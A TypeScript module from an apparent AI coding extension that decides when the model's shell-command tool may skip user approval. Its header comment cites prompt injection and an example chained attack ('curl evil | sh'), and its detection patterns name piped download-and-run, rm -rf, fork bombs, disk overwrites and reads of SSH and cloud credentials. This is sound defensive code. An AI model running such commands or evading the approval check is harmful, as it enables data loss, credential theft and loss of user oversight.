// When run_command may skip its approval card, and when it must always ask. No `vscode` import.
//
// The command text comes from the model, which may be steered by a file it read (prompt injection),
// so the default is to ask. The user's own allow-list (venice.tools.allowedCommands, user level only)
// skips the card only for a *simple* command that starts with a listed prefix at a word boundary: no
// shell operators, no expansions, no redirections, one line. Otherwise "npm test; curl evil | sh"
// would pass as "npm test". Sensitive patterns always ask, with a warning, whatever the list says.

/** Characters that chain, substitute, redirect, glob or quote in POSIX shells and cmd.exe. */
const SHELL_SYNTAX = /[;&|<>`$(){}[\]*?!~#\\'"%^\n\r\t]/;

/** Invisible or control characters that could make the card show something else than what runs. */
// eslint-disable-next-line no-control-regex
const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]|\udb40[\udc00-\udc7f]/;

/** Why a command cannot be shown truthfully on the card (and so is refused), if so. */
export function unshowableReason(command: string): string | undefined {
  if (command.trim() === '') return 'the command is empty';
  if (HIDDEN.test(command)) return 'the command contains control or invisible characters (such as ESC, carriage return or bidi overrides) that would hide what it does on the approval card';
  return undefined;
}

/** Normalized allow-list entries: trimmed, one line, non-empty. */
export function cleanPrefixes(prefixes: readonly unknown[]): string[] {
  return prefixes
    .filter((p): p is string => typeof p === 'string' && !/[\r\n]/.test(p))
    .map((p) => p.trim().replace(/\s+/g, ' '))
    .filter((p) => p.length > 0);
}

/**
 * The allow-list entry that lets this command run without the card, if any: the command must be
 * simple (no shell syntax) and equal the prefix or continue it after a space.
 */
export function allowedPrefix(command: string, prefixes: readonly string[]): string | undefined {
  const cmd = command.trim();
  if (SHELL_SYNTAX.test(cmd)) return undefined;
  const words = cmd.replace(/ +/g, ' ');
  return prefixes.find((p) => words === p || words.startsWith(`${p} `));
}

interface SensitivePattern {
  test: RegExp;
  reason: string;
}

/** Checked on the whole command line, case-insensitively where the shell is case-insensitive too. */
const SENSITIVE: readonly SensitivePattern[] = [
  { test: /\brm\s+(-[a-z]*r[a-z]*\s+-[a-z]*f|-[a-z]*f[a-z]*\s+-[a-z]*r|-[a-z]*(rf|fr)[a-z]*|--recursive\b.*--force|--force\b.*--recursive)/i, reason: 'it deletes files recursively without asking (rm -rf)' },
  { test: /\b(rmdir|rd|del|erase)\s+\/[sq]/i, reason: 'it deletes folders recursively (del /s, rd /s)' },
  { test: /\bremove-item\b.*-recurse/i, reason: 'it deletes folders recursively (Remove-Item -Recurse)' },
  { test: /\b(curl|wget|iwr|invoke-webrequest|irm|invoke-restmethod)\b[^|]*\|\s*(sudo\s+)?(sh|bash|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|iex|invoke-expression|pwsh|powershell)\b/i, reason: 'it downloads a script and runs it (curl … | sh)' },
  { test: /(^|[\s'"=/\\:])\.git([/\\\s'"]|$)/i, reason: 'it touches the .git folder (hooks and config there can run commands)' },
  { test: /\bgit\s+(-c\s+\S+\s+)*(push\s+.*(--force|-f\b)|reset\s+--hard|clean\s+-[a-z]*[fdx]|config\b|filter-branch|update-ref|gc\s+--prune)/i, reason: 'it rewrites or discards git history or changes git configuration' },
  { test: /\bsudo\b|\bsu\s+-|\bdoas\b|\brunas\b/i, reason: 'it runs with administrator rights' },
  { test: /\b(mkfs|fdisk|diskpart|format\s+[a-z]:)|\bdd\b.*\bof=/i, reason: 'it can overwrite a disk' },
  { test: /\bchmod\s+(-r\s+)?[0-7]*7[0-7]*7\b|\bchmod\s+-r\b|\bchown\s+-r\b/i, reason: 'it changes permissions or owners of many files' },
  { test: />\s*\/dev\/(sd|nvme|disk)|:\(\)\s*\{.*\};\s*:/i, reason: 'it can destroy the system (raw disk write or fork bomb)' },
  { test: /\b(shutdown|reboot|halt|poweroff)\b|\bkill\s+-9\s+-1\b|\bkillall\b|\bpkill\b/i, reason: 'it stops the machine or other programs' },
  { test: /\b(eval|source)\b|(^|[;&|]\s*)\.\s+\S/i, reason: 'it runs code built from text (eval, source)' },
  { test: /\bcrontab\b|\bsystemctl\b|\blaunchctl\b|\bschtasks\b|\breg\s+(add|delete)\b/i, reason: 'it changes scheduled tasks, services or the registry' },
  { test: /(^|[\s'"=])(~|\$home|%userprofile%|\$\{?home\}?)[/\\]?\.(ssh|aws|gnupg|bashrc|zshrc|profile|bash_profile|npmrc|netrc|git-credentials)\b/i, reason: 'it touches credentials or shell start-up files in the home folder' },
  { test: /\bvenice_api_key\b/i, reason: 'it names the Venice API key variable' },
];

/** Why this command always asks, with a warning on the card, even when allow-listed; undefined when nothing stands out. */
export function sensitiveCommandReason(command: string): string | undefined {
  for (const p of SENSITIVE) if (p.test.test(command)) return p.reason;
  return undefined;
}

export type CommandDecision = { ask: false; prefix: string } | { ask: true; warning?: string };

/** Whether run_command asks the user first: always, unless allow-listed and not sensitive. */
export function decide(command: string, allowList: readonly string[]): CommandDecision {
  const sensitive = sensitiveCommandReason(command);
  if (sensitive) return { ask: true, warning: `Always asks: ${sensitive}.` };
  const prefix = allowedPrefix(command, allowList);
  return prefix ? { ask: false, prefix } : { ask: true };
}
